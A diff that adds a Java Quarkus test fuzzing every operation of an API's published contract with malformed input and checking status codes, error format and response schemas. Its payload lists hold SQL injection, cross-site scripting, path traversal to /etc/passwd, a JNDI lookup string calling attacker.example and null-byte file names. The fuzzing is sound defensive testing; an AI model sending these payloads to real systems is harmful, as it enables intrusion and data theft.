@@ -1,0 +1,342 @@
+package org.elbasar.common;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.networknt.schema.JsonSchema;
+import com.networknt.schema.JsonSchemaFactory;
+import com.networknt.schema.SpecVersion;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import io.restassured.response.Response;
+import io.restassured.specification.RequestSpecification;
+import jakarta.inject.Inject;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.Iterator;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.UUID;
+import org.elbasar.account.domain.OrganisationRole;
+import org.elbasar.account.domain.PlatformRole;
+import org.elbasar.testing.Fixtures;
+import org.elbasar.testing.Partners;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Thousands of malformed, boundary and unexpected requests generated from the published contract,
+ * to every operation: wrong types, missing and unknown fields, huge strings and arrays, invalid UTF-8,
+ * dates out of range, negative and enormous numbers, SQL and script fragments, path traversal,
+ * wrong content types. Every answer must be below 500, have a status the contract documents for
+ * the operation, be problem+json when it is an error, and match the documented schema.
+ * Some hostile requests are valid ones: the test runs in a JVM, hence on a database, of its own (pom.xml).
+ * Its unexpected answers are listed in target/hostile-input-failures.txt.
+ */
+@QuarkusTest
+class HostileInputTest {
+
+    private static final String CONTRACT = "https://elbasar.org/openapi.json";
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
+    private static final List<String> HOSTILE_TEXT = List.of("' OR '1'='1' --", "\"; DROP TABLE person; --",
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
+            "%00%0d%0a", "\u0000", "𝕏😀\u202e", "a".repeat(20_000), "${jndi:ldap://attacker.example/a}", "{{7*7}}");
+    /** Request lines beyond 4 KB are refused by the HTTP layer (414) before the application sees them. */
+    private static final List<String> HOSTILE_PATH_VALUES = List.of("not-a-uuid", "..%2F..%2Fetc%2Fpasswd", "'%20OR%201=1--",
+            "%3Cscript%3E", "a".repeat(2000), "-1", "99999999999999999999", "%00", UUID.randomUUID().toString());
+    private static final List<String> HOSTILE_QUERY_VALUES = List.of("abc", "-1", "0", "99999999999999999999", "1e309", "NaN",
+            "99999-12-31", "2026-13-45T25:61:00Z", "' OR 1=1--", "<script>", "../../etc/passwd", "\u0000", "a".repeat(1_000), "");
+    /** A body whose bytes are not UTF-8. */
+    private static final byte[] INVALID_UTF8 = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
+
+    @Inject
+    Fixtures fixtures;
+
+    private JsonNode contract;
+    private JsonSchemaFactory schemas;
+    private final Map<String, JsonSchema> compiled = new HashMap<>();
+    private final List<String> failures = new ArrayList<>();
+    private int tried;
+    private final java.util.Random random = new java.util.Random(20261128);
+
+    @Test
+    void everyOperationAnswersHostileInputAsTheContractSays() throws Exception {
+        String served = RestAssured.given().queryParam("format", "json").get("/q/openapi").then().statusCode(200).extract().asString();
+        contract = JSON.readTree(served);
+        // references made absolute, so that any schema of the contract can be compiled on its own
+        String absolute = served.replace("\"#/components/", "\"" + CONTRACT + "#/components/");
+        schemas = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012,
+                builder -> builder.schemaLoaders(loaders -> loaders.schemas(Map.of(CONTRACT, absolute))));
+        JsonNode pathsWithAbsoluteRefs = JSON.readTree(absolute).get("paths");
+
+        var organisation = fixtures.activeOrganisation();
+        String everyone = fixtures.token(fixtures.person(organisation.id, OrganisationRole.ORG_ADMIN, PlatformRole.ADMIN));
+        String partner = Partners.register(everyone, "catalog:read", "organisations:read", "opportunities:write", "webhooks:manage").token();
+
+        int operations = 0;
+        for (Iterator<Map.Entry<String, JsonNode>> paths = pathsWithAbsoluteRefs.fields(); paths.hasNext();) {
+            var path = paths.next();
+            for (Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields(); methods.hasNext();) {
+                var entry = methods.next();
+                if (!Set.of("get", "post", "put", "patch", "delete").contains(entry.getKey())) {
+                    continue;
+                }
+                operations++;
+                JsonNode operation = entry.getValue();
+                String token = operation.path("security").toString().contains(":") || operation.path("security").toString()
+                        .contains("PARTNER") ? partner : everyone;
+                attack(path.getKey(), entry.getKey(), operation, token);
+            }
+        }
+        java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-input-failures.txt"), failures);
+        System.out.printf("Hostile input: %d requests to %d operations, %d unexpected answers%n", tried, operations, failures.size());
+        assertEquals(List.of(), failures.subList(0, Math.min(40, failures.size())), failures.size() + " unexpected answers");
+        assertTrue(tried > 3000, tried + " requests");
+    }
+
+    private void attack(String template, String method, JsonNode operation, String token) {
+        List<JsonNode> parameters = new ArrayList<>();
+        operation.path("parameters").forEach(parameters::add);
+        Map<String, String> pathValues = new HashMap<>();
+        parameters.stream().filter(p -> "path".equals(p.path("in").asText()))
+                .forEach(p -> pathValues.put(p.path("name").asText(),
+                        java.net.URLEncoder.encode(plausible(p.path("schema")).asText(), StandardCharsets.UTF_8).replace("+", "%20")));
+
+        // hostile path parameters, one at a time
+        for (String name : pathValues.keySet()) {
+            for (String value : HOSTILE_PATH_VALUES) {
+                Map<String, String> values = new HashMap<>(pathValues);
+                values.put(name, value);
+                send(template, method, operation, token, values, Map.of(), body(operation).map(this::plausible).orElse(null), null);
+            }
+        }
+        // hostile query parameters, one at a time
+        for (JsonNode parameter : parameters) {
+            if ("query".equals(parameter.path("in").asText())) {
+                for (String value : HOSTILE_QUERY_VALUES) {
+                    send(template, method, operation, token, pathValues, Map.of(parameter.path("name").asText(), value),
+                            body(operation).map(this::plausible).orElse(null), null);
+                }
+            }
+        }
+        JsonNode requestContent = operation.path("requestBody").path("content");
+        if (requestContent.has("multipart/form-data")) {
+            for (String fileName : List.of("../../../../etc/passwd", "photo.jpg\u0000.php", "<script>.png", "a".repeat(2000) + ".jpg")) {
+                tried++;
+                check(method, template, operation, request(token).multiPart("file", fileName, "not an image at all".getBytes(), "image/jpeg")
+                        .request(method, expand(template, pathValues)));
+            }
+            tried++;
+            check(method, template, operation, request(token).multiPart("file", "x.svg",
+                    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".getBytes(), "image/svg+xml")
+                    .request(method, expand(template, pathValues)));
+        }
+        if (!requestContent.has("application/json")) {
+            return;
+        }
+        JsonNode schema = resolve(requestContent.path("application/json").path("schema"));
+        JsonNode base = plausible(schema);
+        for (String raw : List.of("", "null", "[]", "\"text\"", "42", "{", "{\"a\":", "[".repeat(5000) + "]".repeat(5000),
+                "{\"a\":" + "1".repeat(400) + "}", "{\"" + "k".repeat(100_000) + "\": 1}")) {
+            send(template, method, operation, token, pathValues, Map.of(), null, raw);
+        }
+        tried++;
+        check(method, template, operation, request(token).contentType("application/json").body(INVALID_UTF8)
+                .request(method, expand(template, pathValues)));
+        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
+            tried++;
+            check(method, template, operation, request(token).contentType(contentType).body(base.toString())
+                    .request(method, expand(template, pathValues)));
+        }
+        if (base instanceof ObjectNode object) {
+            ObjectNode extra = object.deepCopy();
+            extra.put("isAdmin", true);
+            send(template, method, operation, token, pathValues, Map.of(), extra, null);
+            for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext();) {
+                var property = properties.next();
+                for (JsonNode value : sample(hostileValues(resolve(property.getValue())))) {
+                    ObjectNode mutated = object.deepCopy();
+                    if (value == null) {
+                        mutated.remove(property.getKey());
+                    } else {
+                        mutated.set(property.getKey(), value);
+                    }
+                    send(template, method, operation, token, pathValues, Map.of(), mutated, null);
+                }
+            }
+        }
+    }
+
+    /**
+     * Every hostile value for every field takes minutes: by default each field gets absence, null and a
+     * seeded random third of the others (different for each field, the same on each run);
+     * -Delbasar.hostile.full=true (make soak) sends them all.
+     */
+    private List<JsonNode> sample(List<JsonNode> values) {
+        if (Boolean.getBoolean("elbasar.hostile.full")) {
+            return values;
+        }
+        List<JsonNode> others = new ArrayList<>(values.subList(2, values.size()));
+        java.util.Collections.shuffle(others, random);
+        List<JsonNode> sample = new ArrayList<>(values.subList(0, 2));
+        sample.addAll(others.subList(0, others.size() / 3));
+        return sample;
+    }
+
+    /** Values of the wrong type, at and beyond the bounds, and fragments of attacks; null stands for "absent". */
+    private List<JsonNode> hostileValues(JsonNode schema) {
+        List<JsonNode> values = new ArrayList<>();
+        values.add(null);
+        values.add(NODES.nullNode());
+        values.add(NODES.objectNode().put("$gt", ""));
+        values.add(NODES.arrayNode().add(1).add("two"));
+        values.add(NODES.booleanNode(true));
+        values.add(NODES.numberNode(-1));
+        values.add(NODES.numberNode(new java.math.BigDecimal("1e400")));
+        values.add(NODES.numberNode(2_147_483_648L));
+        values.add(NODES.numberNode(0.5));
+        for (String text : HOSTILE_TEXT) {
+            values.add(NODES.textNode(text));
+        }
+        values.add(NODES.textNode("0000-00-00"));
+        values.add(NODES.textNode("+999999999-12-31T23:59:59Z"));
+        values.add(NODES.textNode("-4713-01-01"));
+        ArrayNode huge = NODES.arrayNode();
+        JsonNode element = schema.has("items") ? plausible(resolve(schema.path("items"))) : NODES.textNode("x");
+        for (int i = 0; i < 1_000; i++) {
+            huge.add(element);
+        }
+        values.add(huge);
+        return values;
+    }
+
+    private java.util.Optional<JsonNode> body(JsonNode operation) {
+        JsonNode schema = operation.path("requestBody").path("content").path("application/json").path("schema");
+        return schema.isMissingNode() ? java.util.Optional.empty() : java.util.Optional.of(resolve(schema));
+    }
+
+    /** A value the schema accepts as far as can be guessed: enough to get past the fields not under attack. */
+    private JsonNode plausible(JsonNode schema) {
+        schema = resolve(schema);
+        if (schema.has("enum")) {
+            return schema.get("enum").get(0);
+        }
+        if (schema.has("examples") && schema.get("examples").isArray() && !schema.get("examples").isEmpty()) {
+            return schema.get("examples").get(0);
+        }
+        String type = schema.path("type").isArray() ? schema.path("type").get(0).asText() : schema.path("type").asText("object");
+        return switch (type) {
+            case "string" -> switch (schema.path("format").asText()) {
+                case "uuid" -> NODES.textNode(UUID.randomUUID().toString());
+                case "date" -> NODES.textNode("2027-01-15");
+                case "date-time" -> NODES.textNode("2027-01-15T10:00:00Z");
+                case "email" -> NODES.textNode("someone@test.example");
+                default -> NODES.textNode("Texte d'essai");
+            };
+            case "integer", "number" -> NODES.numberNode(schema.path("minimum").asInt(1));
+            case "boolean" -> NODES.booleanNode(false);
+            case "array" -> NODES.arrayNode();
+            default -> {
+                ObjectNode object = NODES.objectNode();
+                schema.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), plausible(p.getValue())));
+                yield object;
+            }
+        };
+    }
+
+    private JsonNode resolve(JsonNode schema) {
+        while (schema.has("$ref")) {
+            String pointer = schema.get("$ref").asText().replace(CONTRACT + "#", "").replace("#", "");
+            schema = contract.at(pointer);
+        }
+        return schema;
+    }
+
+    private void send(String template, String method, JsonNode operation, String token, Map<String, String> pathValues,
+            Map<String, String> query, JsonNode body, String raw) {
+        RequestSpecification request = request(token);
+        query.forEach((name, value) -> request.queryParam(name, java.net.URLEncoder.encode(value, StandardCharsets.UTF_8)));
+        if (body != null) {
+            request.contentType("application/json").body(body.toString());
+        } else if (raw != null) {
+            request.contentType("application/json").body(raw.getBytes(StandardCharsets.UTF_8));
+        }
+        tried++;
+        check(method, template, operation, request.request(method, expand(template, pathValues)));
+    }
+
+    private static RequestSpecification request(String token) {
+        return RestAssured.given().urlEncodingEnabled(false).header("Authorization", "Bearer " + token)
+                .header("Accept", "application/json, application/problem+json, */*");
+    }
+
+    private static String expand(String template, Map<String, String> values) {
+        String path = template;
+        for (var value : values.entrySet()) {
+            path = path.replace("{" + value.getKey() + "}", value.getValue());
+        }
+        return path;
+    }
+
+    private void check(String method, String template, JsonNode operation, Response response) {
+        int status = response.statusCode();
+        String where = method.toUpperCase() + " " + template + " -> " + status;
+        if (status >= 500) {
+            failures.add(where + ": " + abbreviate(response.asString()));
+            return;
+        }
+        JsonNode documented = operation.path("responses").path(String.valueOf(status));
+        if (documented.isMissingNode()) {
+            failures.add(where + " is not documented: " + abbreviate(response.asString()));
+            return;
+        }
+        String contentType = response.contentType() == null ? "" : response.contentType();
+        if (status >= 400 && !contentType.startsWith("application/problem+json")) {
+            failures.add(where + " is " + contentType + ", not problem+json");
+            return;
+        }
+        String mediaType = contentType.split(";")[0].trim();
+        JsonNode schema = documented.path("content").path(mediaType).path("schema");
+        if (schema.isMissingNode() || !mediaType.contains("json") || response.asByteArray().length == 0) {
+            return;
+        }
+        try {
+            JsonNode answer = withoutNulls(JSON.readTree(response.asByteArray()));
+            var errors = compiled.computeIfAbsent(schema.toString(), s -> schemas.getSchema(s)).validate(answer);
+            if (!errors.isEmpty()) {
+                failures.add(where + " does not match the contract: " + abbreviate(errors.toString()));
+            }
+        } catch (java.io.IOException e) {
+            failures.add(where + " is not JSON: " + abbreviate(response.asString()));
+        }
+    }
+
+    /** The contract does not mark fields nullable: a null stands for an absent optional field. */
+    private static JsonNode withoutNulls(JsonNode node) {
+        if (node instanceof ObjectNode object) {
+            List<String> nulls = new ArrayList<>();
+            object.fields().forEachRemaining(f -> {
+                if (f.getValue().isNull()) {
+                    nulls.add(f.getKey());
+                } else {
+                    withoutNulls(f.getValue());
+                }
+            });
+            object.remove(nulls);
+        } else if (node instanceof ArrayNode array) {
+            array.forEach(HostileInputTest::withoutNulls);
+        }
+        return node;
+    }
+
+    private static String abbreviate(String text) {
+        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
+    }
+}
